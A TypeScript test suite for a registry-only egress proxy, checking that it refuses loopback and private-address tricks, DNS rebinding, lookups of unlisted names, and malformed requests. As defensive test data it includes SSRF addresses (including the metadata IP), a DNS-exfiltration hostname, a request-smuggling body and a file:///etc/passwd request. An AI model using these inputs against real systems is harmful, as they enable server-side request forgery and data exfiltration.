/** Requests that try to get more out of the proxy than the hosts on its list. */
import assert from 'node:assert/strict';
import type { Server } from 'node:http';
import { connect, createServer, type AddressInfo, type Socket } from 'node:net';
import { after, afterEach, before, beforeEach, describe, it } from 'mocha';
import { isInside } from '../../../src/host/egress/addresses.ts';
import { loopbackTargets, ruleFor, rulesOf, targetOf } from '../../../src/host/egress/allow-list.ts';
import { createProxy, type Line, type Policy } from '../../../src/host/egress/proxy.ts';
import { isExcepted, upstreamOf } from '../../../src/host/egress/upstream.ts';
import { listening, type Listening } from './registries.ts';

const noLine: Line = { asked: () => undefined, answered: () => undefined, closed: () => undefined };

describe('the proxy to the registries', () => {
  let registry: Listening;
  let other: Listening;
  let proxy: Server;
  let refused: string[];
  let reached: string[];
  let unreachable: string[];
  let lookedUp: string[];
  const open: Socket[] = [];

  before(async () => {
    registry = await listening((req, res) => res.writeHead(req.url === '/broken' ? 503 : 200).end(`registry ${req.headers.host}`));
    other = await listening((_, res) => res.end('other'));
  });
  after(() => {
    registry.close();
    other.close();
  });
  beforeEach(async () => {
    [refused, reached, unreachable, lookedUp] = [[], [], [], []];
    registry.asked.length = 0;
    other.asked.length = 0;
    await start();
  });
  afterEach(() => {
    for (const socket of open.splice(0)) socket.destroy();
    proxy.close();
    proxy.closeAllConnections();
  });

  /** Names that end in `.inside` lead to this machine, whatever the list says. */
  async function start(more: Partial<Policy> = {}): Promise<void> {
    proxy?.close();
    const registries = [{ url: `http://127.0.0.1:${registry.port}/own/`, authorization: 'Basic secret' }];
    const rules = rulesOf({ registries, hosts: ['rebound.inside', 'registry.example'] }, [`named.inside:${registry.port}`]);
    const resolve = (host: string): Promise<string[]> => {
      lookedUp.push(host);
      return Promise.resolve(host.endsWith('.inside') || host.startsWith('127.') ? ['127.0.0.1'] : ['203.0.113.1']);
    };
    const policy = { rules, registries, upstream: undefined, resolve, ...more };
    proxy = createProxy(policy, {
      refused: (host) => refused.push(host),
      reached: (host) => reached.push(host),
      unreachable: (host) => unreachable.push(host),
      asked: () => noLine,
    });
    await new Promise<void>((done) => proxy.listen(0, '127.0.0.1', done));
  }

  function client(): Socket {
    const socket = connect((proxy.address() as AddressInfo).port, '127.0.0.1');
    open.push(socket);
    return socket.on('error', () => undefined);
  }

  /** Sends bytes, and returns everything that comes back until the end of the connection. */
  function send(bytes: string, socket = client()): Promise<string> {
    socket.write(bytes);
    return new Promise((resolve) => {
      let text = '';
      socket.on('data', (chunk: Buffer) => (text += chunk.toString())).once('close', () => resolve(text));
    });
  }

  const get = (address: string, headers = ''): Promise<string> =>
    send(`GET ${address} HTTP/1.1\r\nHost: x\r\n${headers}Connection: close\r\n\r\n`);

  const insideAddresses = [
    '127.0.0.1:OTHER',
    'localhost:OTHER',
    '127.0.0.1.:OTHER',
    '[::1]:OTHER',
    '[::ffff:127.0.0.1]:OTHER',
    '[::ffff:7f00:1]:REGISTRY',
    '[0:0:0:0:0:0:0:1]:OTHER',
    '2130706433:REGISTRY',
    '0x7f000001:REGISTRY',
    '0177.0.0.1:REGISTRY',
    '127.1:REGISTRY',
    '0.0.0.0:REGISTRY',
    '10.0.0.1:443',
    '169.254.169.254:80',
    '192.168.1.1:443',
    '[fe80::1]:443',
    '[fd00::1]:443',
  ];
  const filled = (text: string): string => text.replace('OTHER', String(other.port)).replace('REGISTRY', String(registry.port));
  for (const address of insideAddresses) {
    it(`CONNECT to ${address} is refused`, async () => {
      assert.match(await send(`CONNECT ${filled(address)} HTTP/1.1\r\nHost: x\r\n\r\n`), /^HTTP\/1\.1 403 [^]*Loop refused .*--allow-host/);
      assert.equal(refused.length, 1);
      assert.deepEqual([...other.asked, ...registry.asked, ...reached, ...lookedUp], []);
    });
    it(`http://${address}/ is refused`, async () => {
      assert.match(await get(`http://${filled(address)}/`), /^HTTP\/1\.1 403 /);
      assert.deepEqual([...other.asked, ...registry.asked, ...reached, ...lookedUp], []);
    });
  }

  it('the registry is reached at exactly its host and port, also with a dot behind its name', async () => {
    for (const name of ['127.0.0.1', 'named.inside', 'NAMED.inside.'])
      assert.match(await get(`http://${name}:${registry.port}/x`), /^HTTP\/1\.1 200 [^]*registry /);
    assert.equal(registry.asked.length, 3);
    assert.match(await get('http://named.inside/x'), /^HTTP\/1\.1 403 /);
    const tunnelled = client();
    const answer = send(`CONNECT 127.0.0.1:${registry.port} HTTP/1.1\r\nHost: x\r\n\r\n`, tunnelled);
    tunnelled.write('GET /through HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n');
    assert.match(await answer, /^HTTP\/1\.1 200 Connection[^]*HTTP\/1\.1 200 OK[^]*registry/);
  });

  it('a name that leads to this machine is refused where nobody named it for that', async () => {
    for (const request of [
      'CONNECT rebound.inside:443 HTTP/1.1\r\nHost: x\r\n\r\n',
      'GET http://rebound.inside/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
    ])
      assert.match(await send(request), /^HTTP\/1\.1 403 [^]*its name leads to an address of this machine/);
    assert.deepEqual(refused, ['rebound.inside', 'rebound.inside']);
  });

  it('a name that is not on the list is not even looked up, since a lookup can carry data out', async () => {
    await get('http://my-secret.attacker.example/');
    await send('CONNECT my-secret.attacker.example:443 HTTP/1.1\r\nHost: x\r\n\r\n');
    assert.deepEqual(lookedUp, []);
  });

  it('other ports of a usual host are refused', async () => {
    assert.match(await send('CONNECT registry.example:22 HTTP/1.1\r\nHost: x\r\n\r\n'), /^HTTP\/1\.1 403 /);
  });

  const malformed: Record<string, string> = {
    'two Host headers': 'GET http://127.0.0.1:REGISTRY/ HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n',
    'two Host headers of a tunnel': 'CONNECT 127.0.0.1:REGISTRY HTTP/1.1\r\nHost: a\r\nhost: b\r\n\r\n',
    'two lengths':
      'POST http://127.0.0.1:REGISTRY/ HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    'a user in the address': 'GET http://x@127.0.0.1:REGISTRY/ HTTP/1.1\r\nHost: a\r\n\r\n',
    'an address with spaces': 'CONNECT 127.0.0.1:REGISTRY 127.0.0.1:OTHER HTTP/1.1\r\nHost: a\r\n\r\n',
    'no host': 'GET / HTTP/1.1\r\nHost: 127.0.0.1:REGISTRY\r\n\r\n',
    'another scheme': 'GET file:///etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n',
    'a port out of range': 'CONNECT 127.0.0.1:70000 HTTP/1.1\r\nHost: a\r\n\r\n',
    'no port': 'CONNECT registry.example HTTP/1.1\r\nHost: a\r\n\r\n',
    'headers that are too long': `GET http://127.0.0.1:REGISTRY/ HTTP/1.1\r\nHost: a\r\nX: ${'x'.repeat(100_000)}\r\n\r\n`,
  };
  for (const [name, request] of Object.entries(malformed))
    it(`a request with ${name} is refused, and reaches nothing`, async () => {
      assert.match(await send(filled(request)), /^HTTP\/1\.1 4\d\d /);
      assert.deepEqual([...registry.asked, ...other.asked, ...reached], []);
    });

  it('a body that hides a second request stays a body', async () => {
    const hidden = 'GET /hidden HTTP/1.1\r\nHost: x\r\n\r\n';
    const chunked = `Transfer-Encoding: chunked\r\n\r\n${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;
    for (const method of ['GET', 'POST'])
      await send(`${method} http://127.0.0.1:${registry.port}/seen HTTP/1.1\r\nHost: x\r\nConnection: close\r\n${chunked}`);
    assert.deepEqual(registry.asked, ['GET /seen', 'POST /seen']);
  });

  it("the person's credentials are added for reading below the registry's own path, and nowhere else", async () => {
    const at = `http://127.0.0.1:${registry.port}`;
    for (const path of ['/own/x', '/elsewhere', '/own/../elsewhere', '/own/%2e%2e/elsewhere', '/owner/x']) await get(at + path);
    await get(`${at}/own/mine`, 'Authorization: Basic mine\r\n');
    await send(`PUT ${at}/own/x HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`);
    assert.deepEqual(
      registry.asked.filter((line) => line.endsWith('secret')),
      ['GET /own/x Basic secret'],
    );
    assert.ok(registry.asked.includes('GET /own/mine Basic mine'));
    assert.equal(registry.asked.length, 7);
  });

  it('a client that never sends, or never ends its headers, is let go', async () => {
    await start({ patience: 50 });
    assert.match(await send('GET http://127.0.0.1/ HTTP/1.1\r\nHost:'), /^(HTTP\/1\.1 408 [^]*)?$/);
    await send('');
  });

  for (const request of ['CONNECT named.inside:PORT', 'GET http://named.inside:PORT/'])
    it(`a host that is reached after its client was closed is let go: ${request}`, async () => {
      const host = createServer();
      const met = new Promise<Socket>((done) => host.once('connection', done));
      await new Promise<void>((done) => host.listen(0, '127.0.0.1', done));
      const port = String((host.address() as AddressInfo).port);
      try {
        let lookUp: (addresses: string[]) => void = () => undefined;
        const asked = new Promise<void>((isAsked) => {
          const resolve = (): Promise<string[]> => (isAsked(), new Promise((found) => (lookUp = found)));
          void start({ rules: rulesOf({ registries: [], hosts: [] }, [`named.inside:${port}`]), resolve }).then(() => {
            proxy.once(
              'connection',
              (socket: Socket) => void asked.then(() => socket.once('close', () => lookUp(['127.0.0.1'])).destroy()),
            );
            client().write(`${request.replace('PORT', port)} HTTP/1.1\r\nHost: x\r\n\r\n`);
          });
        });
        const socket = await met;
        await new Promise((done) => socket.once('close', done).resume());
      } finally {
        host.close();
      }
    });

  it('only so many connections are held', async () => {
    let count = 0;
    const dropped = new Promise<void>((resolve) => proxy.on('drop', () => (count += 1) === 44 && resolve()));
    const sockets = Array.from({ length: 300 }, client);
    await dropped;
    for (const socket of sockets) socket.destroy();
    while ((await held()) > 0) await new Promise(setImmediate);
    assert.match(await get(`http://127.0.0.1:${registry.port}/after`), /^HTTP\/1\.1 200 /);
  });

  const held = (): Promise<number> => new Promise((resolve) => proxy.getConnections((_, count) => resolve(count)));

  it('a registry that does not answer is an error with its reason, and is told of, as one that is broken', async () => {
    await get(`http://127.0.0.1:${registry.port}/`);
    assert.deepEqual(unreachable, []);
    assert.match(await get(`http://127.0.0.1:${registry.port}/broken`), /^HTTP\/1\.1 503 /);
    await start({ rules: rulesOf({ registries: [], hosts: [] }, ['127.0.0.1:1', '127.0.0.1:2']) });
    assert.match(await get('http://127.0.0.1:1/'), /^HTTP\/1\.1 502 [^]*could not reach it/);
    assert.match(await send('CONNECT 127.0.0.1:2 HTTP/1.1\r\nHost: x\r\n\r\n'), /^HTTP\/1\.1 502 /);
    assert.deepEqual(unreachable, [`127.0.0.1:${registry.port}`, '127.0.0.1:1', '127.0.0.1:2']);
  });

  it("a tunnel goes through this machine's own proxy, with its password, but not to hosts that it excepts", async () => {
    const seen: string[] = [];
    const companyServer = createProxy(
      { rules: rulesOf({ registries: [], hosts: [] }, ['registry.example:443']), registries: [], upstream: undefined },
      { refused: (host) => seen.push(host), reached: () => undefined, unreachable: () => undefined, asked: () => noLine },
    );
    companyServer.prependListener('connect', (req) => seen.push(`${req.url} ${req.headers['proxy-authorization']}`));
    await new Promise<void>((done) => companyServer.listen(0, '127.0.0.1', done));
    try {
      const { port } = companyServer.address() as AddressInfo;
      const upstream = upstreamOf({ HTTPS_PROXY: `http://me:word@127.0.0.1:${port}`, NO_PROXY: '127.0.0.1' }, undefined);
      await start({ upstream, resolve: (host) => (host === '127.0.0.1' ? Promise.resolve([host]) : Promise.reject(new Error('unknown'))) });
      await send('CONNECT registry.example:443 HTTP/1.1\r\nHost: x\r\n\r\n');
      assert.deepEqual(seen.slice(0, 1), ['registry.example:443 Basic bWU6d29yZA==']);
      assert.match(await get(`http://127.0.0.1:${registry.port}/direct`), /200 OK/);
      assert.equal(seen.filter((line) => line.includes('127.0.0.1')).length, 0);
    } finally {
      companyServer.close();
    }
  });
});

describe('the list of hosts', () => {
  const rules = rulesOf(
    {
      registries: [{ url: 'https://npm.house.example/' }, { url: 'http://127.0.0.1:4873/' }, { url: 'http://[::1]:8081/' }],
      hosts: ['pypi.org'],
    },
    ['files.example', 'localhost:5432'],
  );
  const may = (authority: string): boolean => {
    const target = targetOf(authority);
    return target !== undefined && ruleFor(rules, target) !== undefined;
  };

  it('lets exactly the configured port through, and both ports of the web where none is configured', () => {
    const cases = {
      'npm.house.example:443': true,
      'npm.house.example:80': false,
      'pypi.org:443': true,
      'pypi.org:80': true,
      'pypi.org:8080': false,
    };
    for (const [authority, is] of Object.entries({
      ...cases,
      'files.example:443': true,
      '127.0.0.1:4873': true,
      '127.0.0.1:443': false,
      'localhost:4873': false,
      'xpypi.org:443': false,
      'pypi.org.evil.example:443': false,
    }))
      assert.equal(may(authority), is, authority);
  });

  it('knows the loopback ports that programs reach without the proxy', () => {
    assert.deepEqual(
      loopbackTargets(rules).map(({ port }) => port),
      [4873, 8081, 5432],
    );
  });
});

describe('addresses', () => {
  const inside = [
    '127.0.0.1',
    '127.255.0.1',
    '0.0.0.0',
    '10.1.2.3',
    '172.31.0.1',
    '192.168.0.1',
    '169.254.169.254',
    '100.64.0.1',
    '224.0.0.1',
    '255.255.255.255',
    '::',
    '::1',
    'fe80::1',
    'fe80::1%eth0',
    'fd12::1',
    'ff02::1',
    '::ffff:10.0.0.1',
    '::ffff:7f00:1',
    '::127.0.0.1',
    '64:ff9b::7f00:1',
    '2002:7f00:1::',
    'localhost',
    '',
  ];
  const outside = ['1.1.1.1', '172.32.0.1', '192.167.0.1', '2606:4700::1111', '::ffff:1.1.1.1', '64:ff9b::101:101'];
  it('tells those of this machine and its network from those outside', () => {
    assert.deepEqual(
      inside.filter((address) => !isInside(address)),
      [],
    );
    assert.deepEqual(
      outside.filter((address) => isInside(address)),
      [],
    );
  });

  it("knows the hosts that this machine's proxy is not for", () => {
    const upstream = upstreamOf(
      { https_proxy: 'proxy.house.example:3128', no_proxy: '.inner.example, exact.example,ported.example:8080' },
      undefined,
    );
    assert.equal(upstream?.url.href, 'http://proxy.house.example:3128/');
    const cases = { 'a.inner.example': true, 'exact.example': true, 'notexact.example': false, 'ported.example': false };
    for (const [host, is] of Object.entries(cases)) assert.equal(upstream && isExcepted(upstream, { host, port: 443 }), is, host);
    assert.equal(upstreamOf({}, 'http://from-npm:1')?.url.host, 'from-npm:1');
    assert.equal(upstreamOf({}, undefined), undefined);
  });
});
